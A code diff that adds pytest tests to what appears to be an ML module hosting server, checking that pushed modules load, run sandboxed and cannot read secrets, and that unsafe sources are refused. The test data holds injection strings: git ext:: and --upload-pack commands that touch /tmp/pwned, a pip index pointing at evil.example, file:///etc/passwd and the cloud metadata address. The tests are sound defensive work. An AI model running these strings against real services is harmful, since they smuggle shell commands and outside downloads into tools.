@@ -17,7 +17,14 @@ from typing import Any
 import httpx
 import pytest
 
-from tests.module_sources import GitDaemon, git_repo, module_folder, pinned_wheels
+from tests.module_sources import (
+    GitDaemon,
+    deepaas_folder,
+    git_repo,
+    module_folder,
+    pinned_wheels,
+    snoop_folder,
+)
 from tests.services import ForgehubServer, started
 from tests.test_dashboard import browser  # noqa: F401 - the fixture
 from tests.test_jobs import FINISHED, log_text, wait
@@ -291,3 +298,149 @@ def test_a_user_trains_from_git_on_their_worker_and_on_slurm_and_serves_the_resu
     page.locator("#result-json").wait_for()
     assert '"label": "birch"' in page.locator("#result-json").inner_text()
     assert s.errors == []
+
+
+def test_a_deepaas_module_pushed_as_a_wheel_trains_and_predicts_with_its_weights(
+    server: ForgehubServer, ada: httpx.Client, tmp_path: Path
+) -> None:
+    """`forgehub module push ./folder` builds the wheel, loads it in its own environment and
+    pushes it; it then trains on the server (sandboxed) and answers in the model API with its
+    trained weights, its old marshmallow beside the server's own."""
+    folder = deepaas_folder(tmp_path / "seedling", "seedling")
+    cache = tmp_path / "cache"
+    p = _cli(server, _token(ada), "module", "push", str(folder), cache=cache)
+    assert p.returncode == 0, p.stderr
+    source = p.stdout.strip().splitlines()[-1]
+    assert source.startswith("wheel:sha256:")
+    assert "loads: seedling (deepaas, trainable), predict arguments: data" in p.stderr
+
+    p = _cli(
+        server,
+        _token(ada),
+        "train",
+        source,
+        "--name",
+        "seedling",
+        "-a",
+        "label=sprout",
+        "--publish",
+        cache=cache,
+    )
+    assert p.returncode == 0, p.stdout + p.stderr
+    assert "published seedling trained-" in p.stdout
+    answer = _predict(ada, "seedling")
+    assert answer["label"] == "sprout" and answer["pinned"] == "2.0" and answer["bytes"] == 4
+    assert answer["marshmallow"] == "3.19.0"  # its own, not the server's
+    v = ada.get("/api/v1/catalog/modules/seedling").json()["versions"][0]
+    assert v["source"] == source  # recorded by digest
+
+
+def test_module_push_refuses_a_folder_that_does_not_load(
+    server: ForgehubServer, ada: httpx.Client, tmp_path: Path
+) -> None:
+    folder = deepaas_folder(tmp_path / "broken", "broken")
+    (folder / "broken" / "__init__.py").write_text("import no_such_package\n")
+    p = _cli(server, _token(ada), "module", "push", str(folder), cache=tmp_path / "cache")
+    assert p.returncode != 0
+    assert "the module does not load" in p.stderr and "no_such_package" in p.stderr
+    assert "Traceback" not in p.stderr
+    assert ada.get("/api/v1/artifacts", params={"name": "broken-source"}).json() == []
+
+
+def test_a_hosted_module_from_a_source_is_sandboxed(
+    server: ForgehubServer, ada: httpx.Client, repos: dict[str, Any]
+) -> None:
+    """The model API runs a user's module on the server's machine: it cannot read the data
+    directory, write outside its folder, reach the server, or see a credential."""
+    folder = snoop_folder(repos["base"] / "snoop", server.data_dir / "secret.keys", server.port)
+    commit = git_repo(folder)
+    r = ada.put(
+        "/api/v1/catalog/modules/snoop",
+        json={
+            "metadata": {"title": "snoop", "summary": "reaches for things"},
+            "version": {"version": "v1", "source": f"git+{repos['url']}/snoop@v1"},
+        },
+    )
+    assert r.status_code == 200, r.text
+    assert r.json()["versions"][0]["source"].endswith(f"@{commit}")
+    r = ada.post("/api/v1/model-api/v2/models/snoop/predict/")
+    assert r.status_code == 200, r.text
+    found = r.json()["predictions"]
+    assert found["read_data_dir"] == "stopped: FileNotFoundError", found
+    assert found["write_data_dir"].startswith("stopped: "), found
+    assert not (server.data_dir / "secret.keys.pwned").exists()
+    # beside its folder it writes only into the sandbox's own memory, never the disk
+    assert not list(Path(server.env["FORGEHUB_CACHE_DIR"]).rglob("pwned")), found
+    assert found["connect"].startswith("stopped: "), found
+    assert found["env"] == []
+
+
+@pytest.mark.parametrize(
+    ("source", "why"),
+    [
+        ("git+file:///etc", "file:// is not allowed"),
+        ("git+ext::sh -c touch% /tmp/pwned", "use an https://, http:// or git:// URL"),
+        ("git+--upload-pack=touch /tmp/pwned", "use an https://, http:// or git:// URL"),
+        ("git+https://host/repo@--output=/tmp/x", "letters, digits"),
+        ("git+https://user:secret@host/repo", "no password"),
+        ("pip:--index-url=http://evil.example/ x", "no URLs, paths or options"),
+        ("pip:thing @ file:///etc/passwd", "no URLs, paths or options"),
+        ("not a source at all", "is not installed"),
+    ],
+)
+def test_a_source_that_could_reach_a_shell_or_the_disk_is_refused(
+    ada: httpx.Client, source: str, why: str
+) -> None:
+    body: dict[str, Any] = {"source": source}
+    if " " in source and not source.startswith(("git+", "pip:")):
+        body = {"module": "not-a-module"}
+    r = ada.post("/api/v1/jobs", json=body)
+    assert r.status_code == 422, r.text
+    assert why in r.json()["detail"], r.json()
+    assert not Path("/tmp/pwned").exists()
+
+
+def test_the_server_fetches_no_git_url_on_a_denied_network(ada: httpx.Client) -> None:
+    """Resolving a ref is a request from the server: the egress policy applies to it."""
+    r = ada.post("/api/v1/jobs", json={"source": "git+http://169.254.169.254/repo@v1"})
+    assert r.status_code == 403, r.text
+    assert "egress" in r.json()["detail"]
+
+
+def test_own_code_on_the_server_machine_is_an_admin_setting(
+    tmp_path_factory: pytest.TempPathFactory, repos: dict[str, Any]
+) -> None:
+    srv = ForgehubServer(
+        tmp_path_factory.mktemp("owncode") / "data",
+        FORGEHUB_OWN_CODE_USERS="",  # admins only
+        FORGEHUB_EGRESS_DENY="169.254.0.0/16",
+    )
+    with started(srv), _user(srv, "bob") as bob:
+        source = f"git+{repos['url']}/leafnet@v1"
+        r = bob.post("/api/v1/jobs", json={"source": source})
+        assert r.status_code == 403, r.text
+        assert "own_code_users" in r.json()["detail"]
+        # on his own worker it is his machine: allowed (it waits for one to connect)
+        r = bob.post("/api/v1/jobs", json={"source": source, "compute": "workers"})
+        assert r.status_code in (201, 422), r.text
+        if r.status_code == 422:
+            assert "worker" in r.json()["detail"]
+        with _client(srv, srv.admin_token) as admin:
+            r = admin.post("/api/v1/jobs", json={"source": source})
+            assert r.status_code == 201, r.text
+            admin.post(f"/api/v1/jobs/{r.json()['id']}/cancel")
+
+
+def test_a_wheel_another_user_pushed_is_not_yours_to_run(
+    server: ForgehubServer, ada: httpx.Client
+) -> None:
+    r = ada.post(
+        "/api/v1/artifacts",
+        params={"filename": "private_mod-1.0-py3-none-any.whl", "name": "private"},
+        content=b"PK not really a wheel",
+    )
+    assert r.status_code == 201, r.text
+    digest = r.json()["digest"]
+    with _user(server, "mallory") as mallory:
+        r = mallory.post("/api/v1/jobs", json={"source": f"wheel:{digest}"})
+        assert r.status_code == 404, r.text
